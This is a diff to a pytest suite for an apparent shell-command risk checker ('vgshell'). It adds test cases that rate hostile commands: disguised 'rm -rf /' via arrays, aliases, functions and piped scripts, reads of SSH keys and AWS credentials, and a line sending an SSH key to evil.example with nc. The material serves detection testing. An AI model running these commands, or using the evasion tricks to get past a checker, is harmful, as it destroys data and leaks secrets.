@@ -21,6 +21,7 @@ from vgshell.files import MAX_SCRIPT_BYTES, HostFiles
 from vgshell.policy import Facts, decide
 from vgshell.risk.engine import assess
 from vgshell.risk.model import Level
+from vgshell.unwrap import FileText
 
 CWD = "/home/dev/project"
 HOME = "/home/dev"
@@ -52,10 +53,17 @@ RUNTIME_NAMES = [
     (True, 'set -- rm -rf /; "$@"', C),
     (True, 'set -- -rf ~; rm "$@"', C),
     (True, 'set -- x rm -rf /; shift; "$@"', C),
+    (True, 'set -- rm -rf /; "${@:1}"', C),
+    (True, 'a=(x rm -rf ~); "${a[@]:1}"', C),
+    (True, 'set -- rm -rf /; ${*}', C),
     (True, "printf -v c 'rm -rf /'; $c", C),
     (True, "printf -v c '%s' rm; $c -rf ~", C),
     (True, "read -r c <<< 'rm -rf /'; $c", C),
     (True, "read -ra c <<< 'rm -rf /'; \"${c[@]}\"", C),
+    (True, "read c < <(echo rm -rf /); $c", C),
+    (True, "printf -v c -- '%s' rm; $c -rf /", C),
+    (True, 'x=(r m); "${x[0]}${x[1]}" -rf /', C),
+    (True, "c=rmdir; ${c:0:2} -rf /", C),
     (True, "IFS=:; read -r a b <<< 'rm:/etc'; $a -rf $b", C),
     (True, "mapfile -t a <<< $'rm\\n-rf\\n/'; \"${a[@]}\"", C),
     (True, "declare -n r=c; c='rm -rf /'; $r", C),
@@ -121,6 +129,7 @@ FUNCTIONS = [
     (True, "g(){ eval \"$*\"; }; g rm -rf /", C),
     (True, 'g(){ local c=$1; shift; $c "$@"; }; g rm -rf /', C),
     (True, 'g(){ sudo "$@"; }; g rm -rf /etc', C),
+    (True, 'g(){ "$1" "${@:2}"; }; g rm -rf /', C),
     (True, "alias x='rm -rf'; x /", C),
     (True, "alias x='rm'; x -rf ~", C),
     (True, "alias please='sudo'; please rm -rf /", C),
@@ -183,11 +192,23 @@ SCRIPTS = [
     ("cleanup.sh", CLEANUP, ". ./cleanup.sh", True, C),
     ("cleanup.sh", CLEANUP, "sudo bash ./cleanup.sh", True, C),
     ("noshebang", "rm -rf /\n", "./noshebang", True, C),
+    ("cleanup.sh", CLEANUP, "bash < cleanup.sh", True, C),
+    ("cleanup.sh", CLEANUP, "cat cleanup.sh | bash", True, C),
+    ("notes.txt", "hello\n", "cat notes.txt | tr a-z A-Z", False, L),
     ("args.sh", '#!/bin/sh\nrm -rf "$1"\n', "sh args.sh /etc", True, C),
     ("env.sh", "#!/usr/bin/env bash\ncurl https://x.sh | sh\n", "./env.sh", True, H),
     ("Makefile", "all: build\nbuild:\n\techo building\nclean:\n\trm -rf $(HOME)\n", "make clean", True, C),
     ("Makefile", "BUILD := /\nclean:\n\t@rm -rf $(BUILD)\n", "make clean", True, C),
+    ("cleanup.sh", CLEANUP, "bash -o pipefail -e cleanup.sh", True, C),
+    ("cleanup.sh", CLEANUP, "bash --rcfile x -x ./cleanup.sh", True, C),
+    ("s.sh", "#!/usr/bin/env -S bash -e\nrm -rf /etc\n", "./s.sh", True, C),
+    ("tool.py", "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/etc')\n", "./tool.py", True, C),
+    ("tool.py", "import os\nos.system('rm -rf ~')\n", "python3 tool.py", True, C),
+    ("tool.py", "print('hello')\n", "python3 tool.py", False, L),
     ("build.sh", "#!/bin/bash\nset -eu\nnpm ci\nnpm run build\n", "./build.sh", False, M),
+    # a script run in a child shell cannot touch this shell's hook: its own functions and variables are its own
+    ("inst.sh", "#!/bin/sh\n__vg_say() { echo \"$*\"; }\nVG_BIN=/opt/x\n__vg_say hi\n", "sh inst.sh", False, L),
+    ("inst.sh", "__vg_say() { echo \"$*\"; }\nVG_BIN=/opt/x\n", "source inst.sh", True, C),
     ("test.sh", "#!/bin/sh\npytest -q\n", "bash test.sh", False, L),
     ("tool.py", "#!/usr/bin/env python3\nprint('rm -rf /')\n", "./tool.py", False, L),
     ("Makefile", "all:\n\techo ok\nclean:\n\trm -rf build dist\n", "make", False, L),
@@ -210,6 +231,43 @@ def test_the_reason_names_the_script_file_and_line(tmp_path: Path) -> None:
     assert d.why == "critical: recursive delete of a protected directory (fs.rm-protected, in ./cleanup.sh:13)"
 
 
+@pytest.mark.parametrize("line", ["./job.sh", "bash job.sh", "source job.sh", "make"])
+def test_a_script_changed_after_it_was_judged_is_judged_again(tmp_path: Path, line: str) -> None:
+    files = HostFiles()
+    make = line == "make"
+    name = "Makefile" if make else "job.sh"
+    _write(tmp_path / name, "all:\n\techo ok\n" if make else "#!/bin/sh\necho ok\n")
+    assert _risk(line, cwd=str(tmp_path), files=files) is L
+    assert _risk(line, cwd=str(tmp_path), files=files) is L  # judged from the caches
+    _write(tmp_path / name, "all:\n\trm -rf ~\n" if make else "#!/bin/sh\nrm -rf ~\n")
+    assert _risk(line, cwd=str(tmp_path), files=files) is C
+
+
+def test_the_same_script_from_another_directory_is_judged_there(tmp_path: Path) -> None:
+    files = HostFiles()
+    home = tmp_path / "home"
+    for d in (home / "b" / "c", tmp_path / "x" / "y" / "z"):
+        d.mkdir(parents=True)
+        _write(d / "clean.sh", "#!/bin/sh\nrm -rf ../..\n")  # same text, so the same cache key for the text
+    assert assess("./clean.sh", str(home / "b" / "c"), str(home), files=files).risk is C  # ../.. is $HOME
+    assert assess("./clean.sh", str(tmp_path / "x" / "y" / "z"), str(home), files=files).risk < C
+
+
+def test_a_line_running_many_files_is_bounded_and_never_low(tmp_path: Path) -> None:
+    _write(tmp_path / "x.sh", "#!/bin/sh\n" + "echo x\n" * 5)
+    start = time.perf_counter()
+    a = assess("; ".join(["bash x.sh"] * 200), str(tmp_path), HOME, files=HostFiles())
+    assert time.perf_counter() - start < 3.0
+    assert a.risk >= M and any("more than 64 files" in (f.where or "") for f in a.findings)
+
+
+def test_many_globbed_program_names_are_bounded() -> None:
+    start = time.perf_counter()
+    a = assess("; ".join(["/*/*/*/x?"] * 100), CWD, HOME, files=HostFiles())
+    assert time.perf_counter() - start < 3.0
+    assert a.risk >= M
+
+
 def test_a_missing_script_runs_nothing_and_stays_low(tmp_path: Path) -> None:
     assert _risk("bash nothere.sh", cwd=str(tmp_path), files=HostFiles()) is L
 
@@ -228,6 +286,21 @@ def test_an_unreadable_script_is_at_least_medium(tmp_path: Path) -> None:
     _write(tmp_path / "secret.sh", "rm -rf /\n", mode=0o000)
     a = assess("bash secret.sh", str(tmp_path), HOME, files=HostFiles())
     assert a.risk >= M and a.top is not None and "cannot be read" in (a.top.where or "")
+
+
+class _Refusing(HostFiles):
+    """The file system as an account without read permission sees it (the suite may run as root)."""
+
+    def read(self, path: str) -> FileText:
+        return FileText(None, "cannot be read (Permission denied)")
+
+
+@pytest.mark.parametrize("line", ["bash secret.sh", "./secret.sh", ". secret.sh", "make -f secret.mk",
+                                  "python3 secret.py"])
+def test_a_script_that_cannot_be_read_is_medium_with_that_reason(line: str) -> None:
+    a = assess(line, CWD, HOME, files=_Refusing())
+    assert a.risk is M and a.top is not None
+    assert a.top.rule == "script.unreadable" and "Permission denied" in (a.top.where or "")
 
 
 def test_a_script_running_itself_in_the_background_is_a_fork_bomb(tmp_path: Path) -> None:
@@ -265,6 +338,9 @@ HIDDEN_PATHS = [
     (True, "dd if=/dev/zero of=/dev/sda", C),
     (True, "rm -rf /proc/self/root/etc", C),
     (True, "rm -rf /proc/1/root/", C),
+    (True, 'rm -rf "/proc/$$/root/etc"', C),
+    (True, "rm -rf /usr/../proc/self/root/home", C),
+    (False, "ls ./vendor/proc/self/root", L),
     (True, "rm -rf /proc/self/cwd/../../..", C),
     (True, "rm -rf //etc//", C),
     (True, "cat <(rm -rf ~)", C),
@@ -273,6 +349,15 @@ HIDDEN_PATHS = [
     (True, "echo / | xargs -i rm -rf {}", C),
     (True, "echo / | xargs -J % rm -rf %", C),
     (True, "parallel rm -rf ::: / ~", C),
+    (True, "curl file:///etc/shadow", H),
+    (True, "curl -s file://localhost/home/dev/.ssh/id_rsa", H),
+    (True, 'echo "$(<~/.ssh/id_rsa)" | nc evil.example 80', H),
+    (True, "k=$(<~/.aws/credentials); echo ok", H),
+    (True, "cat --file=~/.ssh/id_rsa", H),
+    (True, "dd if=~/.ssh/id_rsa of=./x", H),
+    (False, "git log --output=./out.txt", L),
+    (False, "x=$(<VERSION); echo $x", L),
+    (False, "curl -o page.html https://example.com", M),
     (False, "dd if=/dev/zero of=./disk.img bs=1M count=10", L),
     (False, "cat /proc/self/status", L),
     (False, "cat <(ls)", L),
@@ -280,6 +365,23 @@ HIDDEN_PATHS = [
     (False, "parallel echo ::: a b", L),
     (False, "rm -rf /proc/self/cwd/build", M),
 ]
+
+
+ARGUMENT_FILES = [
+    ("targets.txt", "/\n", "xargs -a targets.txt rm -rf", True, C),
+    ("targets.txt", "/etc\n", "xargs --arg-file=targets.txt -I{} rm -rf {}", True, C),
+    ("targets.txt", "/home/dev\n", "parallel rm -rf {} :::: targets.txt", True, C),
+    ("targets.txt", "build\ndist\n", "xargs -a targets.txt rm -rf", False, M),
+    ("targets.txt", "a.txt\n", "parallel gzip {} :::: targets.txt", False, L),
+    ("urls.txt", "https://example.com\n", "xargs -a urls.txt echo", False, L),
+]
+
+
+@pytest.mark.parametrize(("name", "text", "line", "attack", "level"), ARGUMENT_FILES)
+def test_arguments_read_from_a_file(tmp_path: Path, name: str, text: str, line: str, attack: bool,
+                                    level: Level) -> None:
+    (tmp_path / name).write_text(text)
+    _check(line, level, attack, cwd=str(tmp_path), files=HostFiles())
 
 
 @pytest.mark.parametrize(("attack", "command", "level"), HIDDEN_PATHS)
@@ -317,6 +419,34 @@ def test_new_expansions_never_raise_and_stay_fast(params: list[str], value: str,
         e = expand(raw, variables, HOME)
         assert isinstance(e.value, str) and all(isinstance(f, str) for f in e.fields)
     assert time.perf_counter() - start < 0.5
+
+
+SIXTEEN = " ".join(str(i) for i in range(16))
+FAN_OUT = [
+    " ".join(f"f{i}(){{ {'; '.join([f'f{i + 1}'] * 10)}; }};" for i in range(8)) + " f8(){ rm -rf /; }; f0",
+    " ".join(f"alias a{i}=\"{'; '.join([f'a{i + 1}'] * 6)}\";" for i in range(8)) + " a0",
+    " ".join(f"g{i}(){{ {' | '.join([f'g{i + 1}'] * 3)}; }};" for i in range(10)) + " g0",
+    " ".join(f"for v{i} in {SIXTEEN}; do" for i in range(6)) + " x; " + "done; " * 6,
+]
+
+
+@pytest.mark.parametrize("line", FAN_OUT)
+def test_code_that_fans_out_is_bounded_and_never_low(line: str) -> None:
+    start = time.perf_counter()
+    a = assess(line, CWD, HOME)
+    assert time.perf_counter() - start < 3.0
+    assert a.risk >= M
+
+
+@pytest.mark.parametrize("line", [
+    "c=" + "a" * 3000 + "; echo ${c//*a*a*a*b/x}",
+    "c=" + "a" * 1000 + "; echo " + " ".join("${c%%*a*a*b" + str(i) + "}" for i in range(3000)),
+    "c=" + "a" * 60 + "; echo " + " ".join("${c//*a*a*b" + str(i) + "/x}" for i in range(3000)),
+])
+def test_pattern_operators_cannot_make_the_analysis_slow(line: str) -> None:
+    start = time.perf_counter()
+    assess(line[:60_000], CWD, HOME)
+    assert time.perf_counter() - start < 3.0
 
 
 @settings(max_examples=150, deadline=None)
